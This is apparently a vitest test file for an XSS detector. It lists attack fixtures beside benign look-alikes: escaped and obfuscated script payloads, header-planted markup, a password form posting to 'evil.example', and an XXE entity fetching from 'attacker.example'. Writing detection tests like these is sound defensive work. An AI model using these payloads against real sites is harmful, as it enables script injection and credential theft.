/**
 * XSS readings added for markup planted where no person types it and for script hidden behind
 * escapes (detect/xss): a start tag of an active element in a header or cookie, a `<link>` that
 * pulls a style sheet from a single value or leaves its `href` open, names spelled with `\u`
 * escapes of plain letters (in script and after a closed quote), markup spelled in script escapes,
 * context probes (`  onload= `, `atob()`) and sinks handed to `Reflect.apply`/`.call` — each beside
 * the headers, cookies, markup, JSON, prose and code posts of the same shape that ordinary traffic
 * carries.
 */
import { describe } from 'vitest';
import { detectXss } from '../../src/detect/xss/index.ts';
import type { DetectorHit, InputLocation } from '../../src/types.ts';
import { checkAttacks, checkBenign } from './fixture-check.ts';

/** The detector as the engine calls it for a header: the header's name goes along. */
const asUserAgent = (value: string, location: InputLocation): DetectorHit | null => detectXss(value, location, 'User-Agent');
const asLinkHeader = (value: string, location: InputLocation): DetectorHit | null => detectXss(value, location, 'Link');

describe('markup planted in headers and cookies', () => {
  checkAttacks(
    asUserAgent,
    'xss',
    [
      // a bare script tag after a host name: no browser sends a raw `<` in a Referer or User-Agent
      { value: 'www.example.com<script><img><iframe>', rule: 'xss.header_markup' },
      { value: 'Mozilla/5.0 <svg>' },
      { value: '<STYLE>@\\\\', location: 'cookie', rule: 'xss.header_markup' },
      { value: '<style>=\\\\', location: 'cookie' },
      { value: 'session=<iframe', location: 'cookie' },
    ],
    'header',
  );
  checkBenign(
    asUserAgent,
    [
      { value: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36' },
      { value: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' },
      // angle brackets around a path or an address, an element that runs nothing
      { value: '<img/logo.png>; rel=preload; as=image' },
      { value: 'John Doe <john@example.com>' },
      { value: 'a <b>bold</b> note', location: 'cookie' },
      { value: '{"theme":"dark","layout":"<grid>"}', location: 'cookie' },
    ],
    'header',
  );
  // The Link header writes its URLs in angle brackets, element names included.
  checkBenign(asLinkHeader, [{ value: '<style>; rel=preload; as=style' }, { value: '<svg>; rel=preload; as=image' }], 'header');
});

describe('<link> loading a style sheet', () => {
  checkAttacks(detectXss, 'xss', [
    { value: '<link href="xss.js" rel=stylesheet type="text/javascript"></a>', rule: 'xss.css_import' },
    { value: '<link rel="stylesheet" href="//evil.example/x.css">' },
    { value: '<link rel=import href=https://evil.example/x.html>' },
    // the href left open for the page's next characters
    { value: '<link / asdf href  /= ', rule: 'xss.embedding_tag' },
    { value: '<link href=' },
  ]);
  checkBenign(detectXss, [
    // named in prose, a preconnect hint, a link without a target
    { value: 'how do I add a <link> to my page' },
    { value: '<link rel="preconnect" href="https://fonts.example.com">', below: 2 },
    { value: '<link rel=stylesheet>', below: 2 },
    // a theme's font link inside a post stays a post
    {
      value: 'Fixed the heading font.\nI added <link rel="stylesheet" href="https://fonts.example.com/css?family=Lato"> to the head of the theme.\nWorks now.',
      location: 'body',
      below: 2,
    },
  ]);
});

describe('names spelled in escapes', () => {
  checkAttacks(detectXss, 'xss', [
    { value: '\\u0061lert(1)', rule: 'xss.js_obfuscated_call' },
    { value: '\\u{61}lert`1`' },
    { value: 'x=\\u0065val(name)' },
    // after a closed quote, whatever stands between (IE's filter let `in` through)
    { value: '"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=', rule: 'xss.js_breakout' },
    { value: "'in \\u0076alueOf(1)" },
  ]);
  checkBenign(detectXss, [
    // escapes inside strings: a post showing them, JSON with non-ASCII escaped
    { value: 'console.log("\\u0048ello")', location: 'body' },
    { value: '"\\u0048ello"' },
    { value: '{"name":"Caf\\u00e9","city":"M\\u00fcnchen"}', location: 'raw_body' },
    // an escaped letter that is not ASCII, an escape in prose, an escape not used as code
    { value: 'caf\\u00e9=1' },
    { value: 'use \\u0041 to write an A' },
    { value: '"in \\u0076alue"' },
  ]);
});

describe('probes of the injection context', () => {
  checkAttacks(detectXss, 'xss', [
    // blanks, then a known handler left for the page to fill: the blank ends an unquoted attribute
    { value: '  onload= ', rule: 'xss.event_handler' },
    { value: ' onfocus=', location: 'xml' },
    // a whole value that empty-calls a decoding function: suspicious (strict blocks)
    { value: 'atob()', severity: 1, rule: 'xss.js_call' },
    { value: 'btoa();', severity: 1 },
  ]);
  checkBenign(detectXss, [
    // an unknown handler name, a handler named in a sentence, the bare name
    { value: '  onab= ' },
    { value: 'set onload= in the config' },
    { value: 'onload=' },
    // the same calls asked about, or in a post
    { value: 'what does atob() return', below: 2 },
    { value: 'atob() and btoa() convert base64', below: 2 },
    { value: 'btoa() throws on non-Latin1 input, see the docs\nuse TextEncoder first\nthen encode', location: 'body' },
  ]);
});

describe('markup spelled in script escapes', () => {
  checkAttacks(detectXss, 'xss', [
    // reflected into a script string the page writes as HTML, the escapes are markup again
    { value: '\\x3cimg src=x onerror=alert(1)\\x3e', rule: 'xss.event_handler_js_escaped' },
    { value: '\\x3cscript\\x3ealert\\x281\\x29\\x3c/script\\x3e' },
    { value: '\\u003csvg onload=alert(1)\\u003e' },
    { value: '\\u{3c}iframe src=javascript:alert(1)\\u{3e}' },
    // a bare script opening so spelled: suspicious, like the raw one
    { value: '\\u003cscript\\u003e', severity: 1 },
  ]);
  checkBenign(detectXss, [
    // JSON encoders write `<` as \u003c: rich text so escaped passes as rich text does
    { value: '{"html":"\\u003cp\\u003eHello \\u003cb\\u003eworld\\u003c/b\\u003e\\u003c/p\\u003e"}', location: 'raw_body' },
    { value: '\\u003ca href=\\"https://example.com/docs\\"\\u003edocs\\u003c/a\\u003e' },
    // a post explaining the escaping, a Windows path
    { value: 'Go escapes < as \\u003c, so \\u003cscript\\u003e is harmless in the JSON the service logs; that is why you see it there.', location: 'body' },
    { value: 'C:\\\\Users\\\\x3c\\\\file.txt' },
  ]);
});

describe('sinks handed to a function that calls them', () => {
  checkAttacks(detectXss, 'xss', [
    { value: 'Reflect.apply(alert,null,[1])', rule: 'xss.js_obfuscated_call' },
    { value: 'Function.prototype.call.call(alert, 0, 1)' },
    { value: '"><img src=x onerror=Reflect.apply(prompt,0,[1])>' },
  ]);
  checkBenign(detectXss, [
    // a list of the dialogs in prose; a bare apply( with no receiver; the method named, not handed a sink
    { value: 'the dialogs (alert, confirm and prompt) block the page' },
    { value: 'apply(alert, null)' },
    { value: 'use Reflect.apply(fn, thisArg, args) instead', below: 2 },
  ]);
});

describe('markup in parameter names, and markup that changes the page around it (strict mode)', () => {
  checkAttacks(
    detectXss,
    'xss',
    [
      // names are the application's vocabulary: a tag or a comment delimiter in one is planted
      { value: 'x=<a href="test"', location: 'body_name', severity: 1, rule: 'xss.markup_name' },
      { value: '-->', location: 'body_name', severity: 1, rule: 'xss.markup_name' },
      { value: '-->', location: 'cookie_name', severity: 1, rule: 'xss.markup_name' },
      { value: 'q<!--', location: 'query_name', severity: 1 },
      // a name that is a whole script tag is still judged at full strength
      { value: '<script>alert(1)</script>', location: 'query_name', severity: 2 },
      // a single value that re-sets the charset, or plants a form control
      { value: '<meta charset="UTF-7">', severity: 1, rule: 'xss.page_markup' },
      { value: '<meta http-equiv="content-type" content="text/html; charset=utf-7">', location: 'body', severity: 1 },
      { value: '<input pattern="^a regex$">', location: 'body', severity: 1, rule: 'xss.page_markup' },
      { value: '<form action="https://evil.example/collect"><input name="password" type="password">', severity: 1 },
    ],
    'query',
  );
  checkBenign(
    detectXss,
    [
      // ordinary names: brackets, dots, a pointer arrow in a PHP-style name
      { value: 'tax_input[post_tag]', location: 'body_name' },
      { value: 'user.address.city', location: 'body_name' },
      { value: 'a->b', location: 'query_name' },
      { value: 'x<5', location: 'query_name' },
      // `-->` in a value: prose arrows, and a CRS must-pass value
      { value: 'step 1 --> step 2', location: 'body' },
      { value: '-->', location: 'body' },
      // markup that runs nothing, in a value: links and formatting people post
      { value: '<a href="https://example.com/">docs</a>', location: 'body' },
      { value: '<p><strong>Hello</strong></p>', location: 'body' },
      { value: '<input>', location: 'body' },
      // a site-verification tag pasted into a theme's header field, a button in a custom HTML block
      { value: '<meta name="google-site-verification" content="abc123XYZ">', location: 'body' },
      { value: '<button class="btn btn-primary" type="button">Show more</button>', location: 'body' },
      // a whole HTML page in a code post is a document: its head and form are content
      {
        value:
          'Here is my page, the form does not submit and I do not know why:\n\n<!DOCTYPE html>\n<html>\n<head>\n<meta charset="UTF-8">\n<title>Signup</title>\n</head>\n<body>\n<form method="post">\n<input type="email" name="email">\n<button type="submit">Join</button>\n</form>\n</body>\n</html>\n\nAny idea what I am missing? Thanks.',
        location: 'body',
      },
    ],
    'query',
  );
});

describe('external entity declarations (strict mode)', () => {
  checkAttacks(
    asUserAgent,
    'xss',
    [
      // with or without the `<`, a parameter entity or a general one, pointing anywhere
      { value: 'foo!ENTITY % bar SYSTEM', severity: 1, rule: 'xss.entity_declaration' },
      { value: '<!ENTITY xxe SYSTEM "http://attacker.example/x.dtd">', location: 'query', severity: 1 },
      { value: '<!DOCTYPE r [<!ENTITY\n%\tp PUBLIC "-//X//EN" "x.dtd">%p;]>', location: 'body', severity: 1 },
    ],
    'header',
  );
  checkBenign(
    asUserAgent,
    [
      // the words in prose, in other case, or a declaration without an external identifier
      { value: 'The ENTITY SYSTEM is described in chapter 2.', location: 'body' },
      { value: 'Mozilla/5.0 (entity system) Firefox/120.0' },
      { value: '<!ENTITY copy "&#169;">', location: 'body' },
      { value: '!entity % bar system', location: 'query' },
      { value: '{"note":"!ENTITY is the keyword, SYSTEM follows later"}', location: 'body' },
    ],
    'header',
  );
});
